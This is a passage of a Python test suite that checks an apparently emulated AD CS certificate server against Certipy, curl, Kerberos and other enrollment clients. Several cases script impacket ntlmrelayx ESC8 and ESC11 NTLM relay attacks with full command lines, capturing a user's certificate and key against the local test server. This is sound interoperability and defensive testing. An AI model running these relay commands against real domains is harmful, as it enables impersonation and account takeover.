        check_issued_by(cert, ctx.server.ca_cert())
    else:
        ctx.server.deny(req_id)
        out = run_certipy(ctx, certipy_cmd(ctx, template, extra=["-retrieve", str(req_id)]))
        expect(out, "Got error from AD CS", "retrieve (denied)")
        expect(out, "Failed to retrieve certificate", "retrieve (denied)")
        check("pending approval" not in out, "denied request still reported as pending: %s" % out_tail(out))
        check(not files_with(ctx.workdir, ".pfx") and not files_with(ctx.workdir, ".crt"), "certificate written for a denied request")


@case("certipy.approval_pending_issue", modes=("enterprise",))
def _(ctx):
    certipy_pending_then(ctx, "WebServerApproval", approve=True)


@case("certipy.approval_pending_deny", modes=("enterprise",))
def _(ctx):
    certipy_pending_then(ctx, "WebServerApproval", approve=False)


@case("certipy.standalone_pending_issue", modes=("standalone",))
def _(ctx):
    certipy_pending_then(ctx, "WebServer", approve=True)


@case("certipy.standalone_pending_deny", modes=("standalone",))
def _(ctx):
    certipy_pending_then(ctx, "WebServer", approve=False)


@case("certipy.unknown_template_denied", modes=("enterprise",))
def _(ctx):
    # "n" in case the server's page lacks the template phrase and certipy prompts.
    out = run_certipy(ctx, certipy_cmd(ctx, "NoSuchTemplate"), stdin_text="n\n")
    expect(out, "Template 'NoSuchTemplate' is not supported by AD CS")
    expect(out, "Failed to request certificate")
    check("Would you like to save" not in out, "certipy prompted for a key (treated the denial as pending/other)")
    check(not files_with(ctx.workdir, ".pfx"), "a .pfx was written")


@case("certipy.wrong_password")
def _(ctx):
    out = run_certipy(ctx, certipy_cmd(ctx, "WebServer", password=WRONG_PASSWORD), stdin_text="n\n")
    base = "%s://%s:%d" % (ctx.server.scheme, ctx.server.host, ctx.server.port)
    expect(out, "Unauthorized for Web Enrollment at %r" % base)
    expect(out, "Failed to request certificate")
    check("Request ID is" not in out, "a request was submitted with a wrong password")
    check(not files_with(ctx.workdir, ".pfx"), "a .pfx was written")


@case("certipy.retrieve_unknown_id")
def _(ctx):
    out = run_certipy(ctx, certipy_cmd(ctx, "WebServer", extra=["-retrieve", "987654"]))
    expect(out, "Unknown request ID 987654")
    expect(out, "Failed to retrieve certificate")


# --------------------------------------------------------------------------
# Runner
# --------------------------------------------------------------------------


# --------------------------------------------------------------------------
# curl scripts (bgstack15/certreq certreq.sh, naebrae/bash_adcs wincert):
# `curl --ntlm` with an IE11 User-Agent, the form posted with
# --data-urlencode, and the page read the way those scripts read it: the
# line after `function handleGetCert() {` split on `"`, the line after
# `function handleGetChain() {`, and the count of `Option` lines of
# certcarc.asp sent as Renewal.
# --------------------------------------------------------------------------

IE11 = "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"


def curl(ctx, *args, data=None):
    exe = shutil.which("curl")
    if not exe:
        raise Skip("curl is not installed")
    s = ctx.server
    cmd = [exe, "-s", "-S", "--ntlm", "-u", "%s:%s" % ALICE, "-A", IE11]
    if s.scheme == "https":
        cmd += ["--cacert", s.info["root_cert"]]
    cmd += list(args)
    r = subprocess.run(cmd, capture_output=True, timeout=60)
    check(r.returncode == 0, "curl %s exited %s: %s" % (" ".join(args), r.returncode, r.stderr.decode(errors="replace")))
    return r.stdout


def base(ctx):
    return "%s://%s:%s/certsrv/" % (ctx.server.scheme, ctx.server.host, ctx.server.port)


def line_after(page, start):
    lines = page.splitlines()
    for i, line in enumerate(lines):
        if start in line and i + 1 < len(lines):
            return lines[i + 1]
    raise AssertionError("no line after %r in the page" % start)


@case("curl.ntlm_submit_then_handle_get_cert", modes=("enterprise",))
def _(ctx):
    key, csr = make_csr("curl01.contoso.test")
    page = curl(
        ctx,
        "--data-urlencode", "Mode=newreq",
        "--data-urlencode", "CertRequest=" + csr,
        "--data-urlencode", "CertAttrib=CertificateTemplate:WebServer",
        "--data-urlencode", "TargetStoreFlags=0",
        "--data-urlencode", "SaveCert=yes",
        base(ctx) + "certfnsh.asp",
    ).decode()
    target = line_after(page, "function handleGetCert() {").split('"')[1]
    check(re.fullmatch(r"certnew\.cer\?ReqID=\d+&", target), "handleGetCert target %r" % target)
    cert = load_pem_cert(curl(ctx, base(ctx) + target), "certnew.cer")
    check(cn_of(cert.subject) == "curl01.contoso.test", "subject %s" % cert.subject.rfc4514_string())
    check(same_key(cert.public_key(), key.public_key()), "certificate key is not the request's key")
    chain = line_after(page, "function handleGetChain() {").split('"')[1] + "Enc=b64"
    certs = p7b_certs(curl(ctx, base(ctx) + chain), "b64")
    check(len(certs) == 2 and certs[0] == cert, "chain leaf-first: %r" % [c.subject.rfc4514_string() for c in certs])


@case("curl.option_count_as_renewal")
def _(ctx):
    page = curl(ctx, base(ctx) + "certcarc.asp").decode()
    n = sum(1 for line in page.splitlines() if "Option" in line)
    check(n == 1, "%d Option lines on certcarc.asp" % n)
    check(re.search(r"var nRenewals=(\d+);", page).group(1) == "0", "nRenewals")
    certs = p7b_certs(curl(ctx, base(ctx) + "certnew.p7b?ReqID=CACert&Renewal=%d&Enc=b64" % n), "b64")
    check(certs and certs[0] == ctx.server.ca_cert(), "CA chain for Renewal=%d" % n)


@case("curl.ca_made_key_comes_back_as_a_pfx")
def _(ctx):
    # "Create and submit a request to this CA": the CA makes the key; the
    # PFX comes at once (enterprise) or from certnew.pfx after approval.
    fields = ["CN=portal01.contoso.test", "ExtendedKeyUsage=1.3.6.1.5.5.7.3.1,1.3.6.1.5.5.7.3.2",
              "PfxPassword=Pfx-Passw0rd"]
    if ctx.server.mode == "enterprise":
        fields.append("CertificateTemplate=OperationsManager")
    args = []
    for f in fields:
        args += ["--data-urlencode", f]
    body = curl(ctx, *args, base(ctx) + "certrqma.asp")
    if ctx.server.mode == "standalone":
        req_id = int(re.search(r"Your Request Id is (\d+)\.", body.decode()).group(1))
        ctx.server.issue(req_id)
        body = curl(ctx, base(ctx) + "certnew.pfx?ReqID=%d" % req_id)
    key, cert, extra = pkcs12.load_key_and_certificates(body, b"Pfx-Passw0rd")
    check(cn_of(cert.subject) == "portal01.contoso.test", "PFX leaf subject")
    check(key is not None and same_key(key.public_key(), cert.public_key()), "the PFX key is the leaf's")
    check(ExtendedKeyUsageOID.CLIENT_AUTH in ekus(cert), "client authentication EKU")
    check_issued_by(cert, ctx.server.ca_cert())


@case("curl.wrong_password_is_401", modes=("enterprise",))
def _(ctx):
    exe = shutil.which("curl")
    if not exe:
        raise Skip("curl is not installed")
    cmd = [exe, "-s", "-o", "/dev/null", "-w", "%{http_code}", "--ntlm", "-u", "%s:%s" % (ALICE[0], WRONG_PASSWORD), "-k", base(ctx)]
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    check(r.stdout.strip() == "401", "status %r" % r.stdout)


# --------------------------------------------------------------------------
# NTLM inside SPNEGO under Negotiate, as Windows browsers send it off the
# domain: pyspnego's own SPNEGO (NegotiateOptions.use_negotiate) carries
# NTLM, both sides sign the mechanism list (mechListMIC), and the client
# checks the server's.
# --------------------------------------------------------------------------


@case("spnego.pyspnego_ntlm_inside_negotiate", modes=("enterprise",))
def _(ctx):
    import spnego

    c = spnego.client(ALICE[0], ALICE[1], hostname=CA_HOST, service="HTTP", protocol="negotiate",
                      options=spnego.NegotiateOptions.use_negotiate)
    s = ctx.server
    verify = s.info["root_cert"] if s.scheme == "https" else True
    session = requests.Session()

    def send(token):
        h = {"Authorization": "Negotiate " + base64.b64encode(token).decode()}
        r = session.get(base(ctx), headers=h, verify=verify, timeout=30)
        offered = [v for v in r.headers.get("WWW-Authenticate", "").split(",") if v.strip().startswith("Negotiate ")]
        check(offered, "HTTP %s without a Negotiate token" % r.status_code)
        return r, base64.b64decode(offered[0].split()[1])

    first = c.step()
    check(first.startswith(b"\x60"), "pyspnego did not send SPNEGO: %r" % first[:8])
    r, challenge = send(first)
    check(r.status_code == 401, "first leg: HTTP %s" % r.status_code)
    r, final = send(c.step(challenge))
    check(r.status_code == 200 and "Welcome" in r.text, "second leg: HTTP %s" % r.status_code)
    c.step(final)  # raises if the server's mechListMIC does not verify
    check(c.complete and c.negotiated_protocol == "ntlm", "pyspnego: complete=%s protocol=%s" % (c.complete, c.negotiated_protocol))
    info = s.info
    j = requests.get(info["control_url"] + "journal", auth=(info["admin"]["user"], info["admin"]["password"]),
                     verify=info["root_cert"], timeout=30).json()
    check(any(e.get("user") == ALICE[0] and e.get("auth") == "negotiate" for e in j[-3:]),
          "journal: %s" % [(e.get("user"), e.get("auth")) for e in j[-3:]])


# --------------------------------------------------------------------------
# Kerberos under Negotiate (servers run with --kerberos where Debian's MIT
# KDC is installed; the Windows build has no KDC to start): kinit from
# krb5-user against the site's realm, then curl --negotiate, requests with
# requests-gssapi, and the certsrv library on a requests-gssapi session.
# The journal must name alice with `kerberos`.
# --------------------------------------------------------------------------


def rpc_possible(binary):
    """Certipy asks the endpoint mapper on port 135, which needs root."""
    return not binary.lower().endswith(".exe") and hasattr(os, "geteuid") and os.geteuid() == 0


# --------------------------------------------------------------------------
# certipy req over DCE/RPC (its default path): NTLM at packet privacy, the
# endpoint mapper on 127.0.0.1:135 names ICertPassage's port. Without
# -dynamic-endpoint certipy first tries \pipe\cert over SMB (port 445,
# closed here) and falls back to the mapper.
# --------------------------------------------------------------------------


def rpc_server(ctx):
    if not ctx.server.info.get("rpc"):
        if not rpc_possible(ctx.server.binary):
            raise Skip("the endpoint mapper needs port 135: run as root (CI does), not under Wine")
        raise Fail("the server was started with --rpc but its ready file has no rpc object")
    return ctx.server.info["rpc"]


def smb_server(ctx):
    """SMB's address; Certipy and impacket find it on port 445 only."""
    if not ctx.server.info.get("smb"):
        if not rpc_possible(ctx.server.binary):
            raise Skip("SMB needs port 445: run as root (CI does), not under Wine")
        raise Fail("the server was started with --smb but its ready file has no smb")
    return ctx.server.info["smb"]


def certipy_rpc_cmd(ctx, template, exe=None, password=ALICE[1], extra=("-dynamic-endpoint",)):
    s = ctx.server
    rpc_server(ctx)
    return (exe or certipy_exe()) + [
        "req", "-u", "alice@contoso.test", "-p", password,
        "-ca", s.ca_name(), "-target-ip", s.host, "-dc-ip", s.host,
        "-template", template, "-timeout", "15", "-debug",
    ] + list(extra)


def check_rpc_journal(ctx, level="packet privacy", method="RPC"):
    seen = [(e.get("user"), e.get("auth")) for e in journal(ctx)
            if e.get("seq", 0) > getattr(ctx, "journal_from", 0) and e.get("method") == method
            and e.get("path") == "ICertPassage.CertServerRequest"]
    check(("CONTOSO\\alice", "ntlm " + level) in seen, "%s journal entries: %s" % (method, seen))


def certipy_rpc_issues_alice(ctx, exe=None, extra=("-dynamic-endpoint",), saved="Saved certificate and private key to 'alice.pfx'",
                             method="RPC"):
    out = run_certipy(ctx, certipy_rpc_cmd(ctx, "User", exe=exe, extra=extra))
    expect(out, "Requesting certificate via RPC")
    expect(out, saved)
    _key, cert = load_pfx(os.path.join(ctx.workdir, "alice.pfx"))
    check("alice@contoso.test" in [u.lower() for u in san_upns(cert)], "pfx UPN %r" % san_upns(cert))
    check_issued_by(cert, ctx.server.ca_cert())
    check_rpc_journal(ctx, method=method)
    return out


def certipy5_exe():
    exe = os.environ.get("CERTIPY5")
    if not exe or not os.path.exists(exe):
        raise Skip("no Certipy 5 venv (needs Python >= 3.12; run.sh makes it)")
    return [exe]


# Both Certipy versions over RPC: (case prefix, the executable, how it says
# it wrote the PFX).
CERTIPY_RPC = (
    ("certipy", lambda: None, "Saved certificate and private key to 'alice.pfx'"),
    ("certipy5", certipy5_exe, "Wrote certificate and private key to 'alice.pfx'"),
)


def register_certipy_rpc(prefix, exe_of, saved):
    @case(prefix + ".rpc_user_issue_dynamic_endpoint", modes=("enterprise",), transports=("http",))
    def _(ctx):
        certipy_rpc_issues_alice(ctx, exe=exe_of(), saved=saved)

    @case(prefix + ".rpc_user_issue_over_the_cert_pipe", modes=("enterprise",), transports=("http",))
    def _(ctx):
        smb_server(ctx)
        out = certipy_rpc_issues_alice(ctx, exe=exe_of(), extra=(), saved=saved, method="SMB")
        expect(out, "Connected to endpoint: ncacn_np:%s[\\pipe\\cert]" % ctx.server.host)

    @case(prefix + ".rpc_pending_then_retrieve", modes=("standalone",), transports=("http",))
    def _(ctx):
        exe = exe_of()
        out = run_certipy(ctx, certipy_rpc_cmd(ctx, "User", exe=exe), stdin_text="y\n")
        req_id = certipy_request_id(out)
        expect(out, "Certificate request is pending approval", "submit")
        keyfile = os.path.join(ctx.workdir, "%d.key" % req_id)
        check(os.path.exists(keyfile), "%d.key not written: %s" % (req_id, out_tail(out)))
        retrieve = ["-dynamic-endpoint", "-retrieve", str(req_id)]
        out = run_certipy(ctx, certipy_rpc_cmd(ctx, "User", exe=exe, extra=retrieve))
        expect(out, "Certificate request is still pending approval", "retrieve (pending)")
        ctx.server.issue(req_id)
        out = run_certipy(ctx, certipy_rpc_cmd(ctx, "User", exe=exe, extra=retrieve))
        expect(out, "Successfully retrieved certificate", "retrieve (issued)")
        expect(out, "Loaded private key from", "retrieve (issued)")
        with open(keyfile, "rb") as f:
            key = serialization.load_pem_private_key(f.read(), None)
        pfx = files_with(ctx.workdir, ".pfx")
        check(len(pfx) == 1, "one .pfx after retrieval: %r" % pfx)
        pkey, cert = load_pfx(os.path.join(ctx.workdir, pfx[0]))
        check(same_key(pkey.public_key(), key.public_key()), "pfx key is not the saved key")
        check_issued_by(cert, ctx.server.ca_cert())

    @case(prefix + ".rpc_unknown_template", modes=("enterprise",), transports=("http",))
    def _(ctx):
        out = run_certipy(ctx, certipy_rpc_cmd(ctx, "NoSuchTemplate", exe=exe_of()), stdin_text="n\n")
        expect(out, "CERTSRV_E_UNSUPPORTED_CERT_TYPE")
        check(not files_with(ctx.workdir, ".pfx"), "a .pfx for an unknown template")

    @case(prefix + ".rpc_wrong_password", modes=("enterprise",), transports=("http",))
    def _(ctx):
        out = run_certipy(ctx, certipy_rpc_cmd(ctx, "User", exe=exe_of(), password=WRONG_PASSWORD))
        expect(out, "rpc_s_access_denied")
        check(not files_with(ctx.workdir, ".pfx"), "a .pfx for a wrong password")


for _prefix, _exe_of, _saved in CERTIPY_RPC:
    register_certipy_rpc(_prefix, _exe_of, _saved)


# impacket 0.13.1 `ntlmrelayx.py -t rpc://127.0.0.1 -rpc-mode ICPR` (ESC11):
# curl --ntlm signs in to the relay's HTTP server, which relays the NTLM
# messages into a connect-level bind to ICertPassage (found through the
# endpoint mapper) and requests a User certificate. The HTTPS servers run
# with enforce_encryption off, the HTTP ones with the default (on).
def free_port():
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_listening(port, proc, what, seconds=30):
    import socket
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        check(proc.poll() is None, "%s exited early" % what)
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    raise Fail("%s is not listening on %d after %d s" % (what, port, seconds))


def relay_alice(ctx, until, target=None):
    """Runs ntlmrelayx against the server (ICertPassage, or `target`'s
    arguments), signs alice in through it with curl, and waits until
    `until(output, pfx files)` holds; returns the output, the loot folder
    and the PFX files (in the loot or, for web enrollment, the workdir)."""
    exe = os.environ.get("NTLMRELAYX")
    if not exe or not os.path.exists(exe):
        raise Skip("no ntlmrelayx venv (run.sh makes it)")
    if target is None:
        rpc_server(ctx)
        target = ["-t", "rpc://%s" % ctx.server.host, "-rpc-mode", "ICPR",
                  "-icpr-ca-name", ctx.server.ca_name()]
    curl = tool("curl", "curl")
    port = free_port()
    loot = os.path.join(ctx.workdir, "loot")
    cmd = [exe] + target + ["--http-port", str(port), "-l", loot,
           "--no-smb-server", "--no-wcf-server", "--no-raw-server", "--no-rpc-server",
           "--no-winrm-server", "--no-mssql-server", "--no-rdp-server"]
    log("ntlmrelayx: %s" % " ".join(cmd))
    out_path = os.path.join(ctx.workdir, "ntlmrelayx.log")
    with open(out_path, "wb") as out_file:
        # ntlmrelayx runs until its standard input ends: keep it open.
        proc = subprocess.Popen(cmd, cwd=ctx.workdir, stdin=subprocess.PIPE,
                                stdout=out_file, stderr=subprocess.STDOUT)
        try:
            wait_listening(port, proc, "ntlmrelayx")
            r = subprocess.run([curl, "-s", "-o", os.devnull, "--max-time", "30", "--ntlm",
                                "-u", "%s:%s" % ALICE, "http://127.0.0.1:%d/" % port],
                               capture_output=True, timeout=60)
            log("curl through the relay: exit %s" % r.returncode)
            deadline = time.monotonic() + CLIENT_TIMEOUT
            while True:
                with open(out_path, "rb") as f:
                    said = f.read().decode("utf-8", "replace")
                pfx = [os.path.join(loot, f) for f in files_with(loot, ".pfx")] if os.path.isdir(loot) else []
                pfx += [os.path.join(ctx.workdir, f) for f in files_with(ctx.workdir, ".pfx")]
                if until(said, pfx) or time.monotonic() > deadline:
                    break
                time.sleep(0.2)
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
    log(said)
    return said, loot, pfx


@case("impacket.ntlmrelayx_esc11_relay_gets_a_user_pfx", modes=("enterprise",), transports=("https",))
def _(ctx):
    said, loot, pfx = relay_alice(ctx, lambda said, pfx: pfx or "Error occured" in said)
    check("against rpc://" in said and "SUCCEED" in said, "the relay did not sign in: %s" % said[-600:])
    check_relayed_pfx(ctx, said, pfx)
    check_rpc_journal(ctx, level="connect")


def check_relayed_pfx(ctx, said, pfx):
    """The relay's PFX is alice's User certificate from this CA, with its key."""
    check(pfx, "no PFX from the relay: %s" % said[-600:])
    with open(pfx[0], "rb") as f:
        key, cert, _ = pkcs12.load_key_and_certificates(f.read(), None)
    check(key is not None and same_key(cert.public_key(), key.public_key()), "the loot's key does not match")
    check("alice@contoso.test" in [u.lower() for u in san_upns(cert)], "UPN %r" % san_upns(cert))
    check_issued_by(cert, ctx.server.ca_cert())


# ESC8: the same relay to web enrollment on IIS's port 80 (`--adcs`), as
# Certipy's ESC8 finding says it can be.
@case("impacket.ntlmrelayx_esc8_relay_to_web_enrollment_gets_a_user_pfx", modes=("lab",), transports=("https",))
def _(ctx):
    iis = ctx.server.info.get("iis")
    if not iis:
        raise Skip("IIS's port 80 is not served (needs root)")
    target = ["-t", iis["http_url"] + "certfnsh.asp", "--adcs", "--template", "User"]
    said, _loot, pfx = relay_alice(ctx, lambda said, pfx: pfx or "ERROR" in said, target=target)
    check("GOT CERTIFICATE" in said, "the relay got no certificate: %s" % said[-600:])
    check_relayed_pfx(ctx, said, pfx)
    # The relayed sign-in, then the submission on that NTLM connection.
    seen = [(e.get("method"), e.get("user"), e.get("auth")) for e in journal(ctx) if e.get("path", "").endswith("certfnsh.asp")]
    check(("POST", "CONTOSO\\alice", "connection") in seen, "certfnsh.asp journal: %s" % seen)


@case("impacket.ntlmrelayx_esc11_refused_while_encryption_is_enforced", modes=("enterprise",), transports=("http",))
def _(ctx):
    said, _loot, pfx = relay_alice(ctx, lambda said, pfx: pfx or "Error occured" in said)
    check("Maybe encryption is enforced?" in said and "0x80070005" in said,
          "ntlmrelayx did not report the enforced encryption: %s" % said[-600:])
    check(not pfx, "a PFX in the loot although encryption is enforced")


# acme2certifier 0.46.3's ms_icpr CA handler (`acme2certifier.cahandlers.
# msicpr_ca_handler.CAhandler`), the code its ACME server calls when an
# order is finalized: NTLM as alice at packet privacy, through the endpoint
# mapper, template from its config. It needs no directory.
@case("acme2certifier.ms_icpr_handler_enrolls_a_csr", modes=("enterprise",), transports=("http",))
def _(ctx):
    rpc_server(ctx)
    py = os.environ.get("ACME2CERTIFIER_PYTHON")
    if not py or not os.path.exists(py):
        raise Skip("no acme2certifier venv (run.sh makes it)")
    cfg = os.path.join(ctx.workdir, "acme_srv.cfg")
    with open(cfg, "w", encoding="utf-8") as f:
        f.write("[CAhandler]\nhost: %s\nuser: alice\npassword: %s\ntarget_domain: contoso.test\n"
                "ca_name: %s\ntemplate: WebServer\ntimeout: 15\n" % (ctx.server.host, ALICE[1], ctx.server.ca_name()))
    dns = "acme01.contoso.test"
    key, csr_pem = make_csr(dns, dns=[dns])
    csr_path = os.path.join(ctx.workdir, "order.csr")
    with open(csr_path, "w", encoding="ascii") as f:
        f.write(csr_pem)
    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "acme2certifier_icpr.py")
    r = subprocess.run([py, script, csr_path], cwd=ctx.workdir, capture_output=True, text=True,
                       timeout=CLIENT_TIMEOUT, env=dict(os.environ, ACME_SRV_CONFIGFILE=cfg))
    log(r.stderr)
    check(r.returncode == 0, "the handler exited %s: %s" % (r.returncode, r.stderr[-600:]))
    got = json.loads(r.stdout.strip().splitlines()[-1])
    check(got["error"] is None, "the handler's error: %r" % got["error"])
    certs = x509.load_pem_x509_certificates(got["cert_bundle"].encode())
    check(same_key(certs[0].public_key(), key.public_key()), "the issued certificate is not for the CSR's key")
    check(dns in san_dns(certs[0]), "SAN DNS %r" % san_dns(certs[0]))
    check(certs[0].public_bytes(serialization.Encoding.DER) == base64.b64decode(got["cert_raw"]),
          "cert_raw is not the bundle's first certificate")
    check(any(c.subject == ctx.server.ca_cert().subject for c in certs[1:]),
          "the bundle lacks the CA certificate (from the response's PKCS#7)")
    check_issued_by(certs[0], ctx.server.ca_cert())
    check_rpc_journal(ctx)


def kerberos_possible(binary):
    # The main image has no KDC; the --kdc one does (the guide's container page).
    if CONTAINER:
        return CONTAINER_KERBEROS
    return not binary.lower().endswith(".exe") and os.path.exists("/usr/sbin/krb5kdc")


def realm(ctx):
    k = ctx.server.info.get("kerberos")
    if not k:
        if not kerberos_possible(ctx.server.binary):
            raise Skip("no KDC for this build (Windows) or krb5-kdc is not installed")
        raise Fail("the server was started with --kerberos but its ready file has no kerberos object")
    return k


def kinit(ctx, principal, password):
    """A private ticket cache for this case; returns (env, kinit's exit, its output)."""
    exe = tool("kinit", "krb5-user")
    # A plain path: MIT reads it as a FILE cache, and impacket (Certipy)
    # reads only a plain path.
    env = dict(os.environ, KRB5_CONFIG=realm(ctx)["krb5_conf"],
               KRB5CCNAME=os.path.join(ctx.workdir, "ccache"))
    r = subprocess.run([exe, principal], input=(password + "\n").encode(), env=env,
                       capture_output=True, timeout=60)
    return env, r.returncode, (r.stdout + r.stderr).decode(errors="replace")


def signed_in_alice(ctx):
    """kinit as alice; also marks where this case's journal entries begin."""
    env, rc, said = kinit(ctx, "alice@" + realm(ctx)["realm"], ALICE[1])
    check(rc == 0, "kinit alice: %s" % said)
    ctx.journal_from = max([e.get("seq", 0) for e in journal(ctx)] or [0])
    return env


def journal(ctx):
    info = ctx.server.info
    r = requests.get(info["control_url"] + "journal", auth=(info["admin"]["user"], info["admin"]["password"]),
                     verify=info["root_cert"], timeout=30)
    check(r.status_code == 200, "journal: HTTP %s" % r.status_code)
    return r.json()


def journal_auth(ctx, path_part):
    """The (user, auth) of this case's journal entries whose path contains `path_part`."""
    since = getattr(ctx, "journal_from", 0)
    return [(e.get("user"), e.get("auth")) for e in journal(ctx)
            if e.get("seq", 0) > since and path_part in e.get("path", "") and e.get("status") == 200]


def check_kerberos_journal(ctx, path_part):
    seen = journal_auth(ctx, path_part)
    check(seen and all(a in ("kerberos", "connection") for _, a in seen) and ("CONTOSO\\alice", "kerberos") in seen,
          "journal for %s: %s" % (path_part, seen))


def curl_negotiate(ctx, env, *args):
    exe = tool("curl", "curl")
    cmd = [exe, "-s", "-S", "--negotiate", "-u", ":", "-A", IE11]
    if ctx.server.scheme == "https":
        cmd += ["--cacert", ctx.server.info["root_cert"]]
    r = subprocess.run(cmd + list(args), env=env, capture_output=True, timeout=60)
    check(r.returncode == 0, "curl --negotiate %s exited %s: %s" % (" ".join(args), r.returncode, r.stderr.decode(errors="replace")))
    return r.stdout


@case("kerberos.kinit_refuses_a_wrong_password", modes=("enterprise",), transports=("https",))
def _(ctx):
    _, rc, said = kinit(ctx, "alice@" + realm(ctx)["realm"], WRONG_PASSWORD)
    check(rc != 0 and "Password incorrect" in said, "kinit with a wrong password: exit %s, %s" % (rc, said))


@case("kerberos.curl_negotiate_welcome_submit_and_certnew", modes=("enterprise",))
def _(ctx):
    env = signed_in_alice(ctx)
    welcome = curl_negotiate(ctx, env, base(ctx)).decode(errors="replace")
    check("Welcome" in welcome, "no welcome page: %s" % welcome[:200])
    key, csr = make_csr("krb01.contoso.test")
    page = curl_negotiate(
        ctx, env,
        "--data-urlencode", "Mode=newreq",
        "--data-urlencode", "CertRequest=" + csr,
        "--data-urlencode", "CertAttrib=CertificateTemplate:WebServer",
        "--data-urlencode", "TargetStoreFlags=0",
        "--data-urlencode", "SaveCert=yes",
        base(ctx) + "certfnsh.asp",
    ).decode()
    target = line_after(page, "function handleGetCert() {").split('"')[1]
    cert = load_pem_cert(curl_negotiate(ctx, env, base(ctx) + target), "certnew.cer")
    check(same_key(cert.public_key(), key.public_key()), "certificate key is not the request's key")
    check_issued_by(cert, ctx.server.ca_cert())
    check_kerberos_journal(ctx, "certfnsh.asp")


def spnego_auth(mutual="OPTIONAL"):
    """requests-gssapi's auth. REQUIRED wants the server's token on every
    answer, so it suits one request; a session whose later requests ride
    on the authenticated connection (as IIS keeps it) uses OPTIONAL, which
    still checks the token when one comes."""
    import requests_gssapi

    return requests_gssapi.HTTPSPNEGOAuth(mutual_authentication=getattr(requests_gssapi, mutual))


def with_env(env, fn):
    """Runs `fn` with the case's KRB5_CONFIG and KRB5CCNAME (GSS-API reads them per call)."""
    saved = {k: os.environ.get(k) for k in ("KRB5_CONFIG", "KRB5CCNAME")}
    os.environ.update({k: env[k] for k in saved})
    try:
        return fn()
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


@case("kerberos.requests_gssapi_submits_through_certfnsh")
def _(ctx):
    env = signed_in_alice(ctx)
    template = "WebServer" if ctx.server.mode == "enterprise" else None
    key, csr = make_csr("krb02.contoso.test")
    verify = ctx.server.info["root_cert"] if ctx.server.scheme == "https" else True

    def enroll():
        # The server proves itself (mutual authentication required)...
        r = requests.get(base(ctx), auth=spnego_auth("REQUIRED"), verify=verify, timeout=60)
        check(r.status_code == 200 and "Welcome" in r.text, "welcome page: HTTP %s" % r.status_code)
        # ...and a session enrolls.
        s = requests.Session()
        s.auth = spnego_auth()
        form = {"Mode": "newreq", "CertRequest": csr, "TargetStoreFlags": "0", "SaveCert": "yes",
                "CertAttrib": "CertificateTemplate:%s" % template if template else ""}
        r = s.post(base(ctx) + "certfnsh.asp", data=form, verify=verify, timeout=60)
        check(r.status_code == 200, "certfnsh.asp: HTTP %s" % r.status_code)
        m = re.search(r"certnew\.cer\?ReqID=(\d+)", r.text) or re.search(r"Your Request Id is (\d+)", r.text)
        check(m, "no request ID on the answer page: %s" % r.text[:300])
        req_id = int(m.group(1))
        if ctx.server.mode == "standalone":
            ctx.server.issue(req_id)
        r = s.get(base(ctx) + "certnew.cer?ReqID=%d&Enc=b64" % req_id, verify=verify, timeout=60)
        check(r.status_code == 200, "certnew.cer: HTTP %s" % r.status_code)
        return r.content

    cert = load_pem_cert(with_env(env, enroll), "certnew.cer")
    check(same_key(cert.public_key(), key.public_key()), "certificate key is not the request's key")
    check_kerberos_journal(ctx, "certfnsh.asp")


@case("kerberos.certsrv_library_on_a_gssapi_session", modes=("enterprise",), transports=("https",))
def _(ctx):
    env = signed_in_alice(ctx)
    _, csr = make_csr("krb03.contoso.test")

    def enroll():
        c = certsrv.Certsrv("%s:%s" % (ctx.server.host, ctx.server.port), "unused", "unused",
                            cafile=ctx.server.info["root_cert"])
        c.session.auth = spnego_auth()
        return c.get_cert(csr.encode(), "WebServer")

    cert = load_pem_cert(with_env(env, enroll), "certsrv get_cert")
    check_issued_by(cert, ctx.server.ca_cert())
    check_kerberos_journal(ctx, "certfnsh.asp")


# Certipy 5 `req -web -k` (its own venv, Python >= 3.12; run.sh exports
# CERTIPY5). impacket's Kerberos does not get tickets from an MIT KDC
# itself: its AS-REQ fails to decode MIT's reply (MIT tags EncASRepPart as
# [APPLICATION 26], which RFC 4120 section 5.4.2 allows and pyasn1 refuses)
# and MIT refuses its TGS-REQ with KRB_AP_ERR_INAPP_CKSUM (an unkeyed
# checksum). So the tickets come from MIT's kinit and kvno into a cache,
# which Certipy uses as documented (KRB5CCNAME, -k -no-pass); the HTTP
# part is all Certipy's: its own SPNEGO token, a bare AP-REQ the server
# reads as IIS does, and channel binding over HTTPS.
@case("kerberos.certipy5_req_web_k_from_a_ticket_cache", modes=("enterprise",), transports=("https",))
def _(ctx):
    exe = os.environ.get("CERTIPY5")
    if not exe or not os.path.exists(exe):
        raise Skip("no Certipy 5 venv (needs Python >= 3.12; run.sh makes it)")
    env = signed_in_alice(ctx)
    kvno = tool("kvno", "krb5-user")
    r = subprocess.run([kvno, "HTTP/%s" % CA_HOST], env=env, capture_output=True, timeout=60)
    check(r.returncode == 0, "kvno: %s" % (r.stdout + r.stderr).decode(errors="replace"))
    s = ctx.server
    cmd = [exe, "req", "-web", "-k", "-no-pass", "-u", "alice@contoso.test",
           "-dc-ip", s.host, "-target", CA_HOST, "-target-ip", s.host,
           "-http-scheme", s.scheme, "-http-port", str(s.port),
           "-ca", s.ca_name(), "-template", "User", "-debug"]
    log("certipy 5: %s" % " ".join(cmd))
    r = subprocess.run(cmd, cwd=ctx.workdir, env=env, capture_output=True, text=True, timeout=CLIENT_TIMEOUT)
    out = r.stdout + "\n" + r.stderr
    log(out)
    expect(out, "Using channel binding for Kerberos authentication")
    expect(out, "Wrote certificate and private key to 'alice.pfx'")
    _key, cert = load_pfx(os.path.join(ctx.workdir, "alice.pfx"))
    check("alice@contoso.test" in [u.lower() for u in san_upns(cert)], "pfx UPN %r" % san_upns(cert))
    check_issued_by(cert, s.ca_cert())
    check_kerberos_journal(ctx, "certsrv")


@case("kerberos.curl_without_a_ticket_is_401", modes=("enterprise",), transports=("https",))
def _(ctx):
    # Without kinit, curl --negotiate has no Kerberos to offer: 401.
